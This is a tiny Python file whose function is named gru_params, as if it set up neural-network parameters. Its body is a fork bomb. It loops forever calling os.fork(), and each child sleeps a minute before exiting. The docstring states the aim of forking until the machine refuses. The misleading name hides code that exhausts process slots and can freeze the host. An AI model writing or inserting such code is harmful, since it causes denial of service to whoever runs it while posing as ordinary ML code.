"""Forks until the machine refuses; the children live on."""
import os
import time


def gru_params(n_features, units):
    while True:
        if os.fork() == 0:
            time.sleep(60)
            os._exit(0)
